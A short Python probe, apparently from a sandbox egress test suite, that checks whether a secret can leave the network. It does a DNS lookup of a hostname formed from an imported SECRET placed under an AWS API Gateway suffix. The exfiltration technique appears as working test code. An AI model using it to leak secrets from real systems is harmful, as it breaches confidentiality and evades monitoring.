# class: network
# rule: outbound_connectivity
# policy: buckets.yaml
# success: a host that a customer owns is asked below a service's suffix
# proof: query
# needs: resolver
import socket

from attack import SECRET, attempt


@attempt
def ask():
    return socket.getaddrinfo(SECRET + ".execute-api.us-east-1.amazonaws.com", 443)
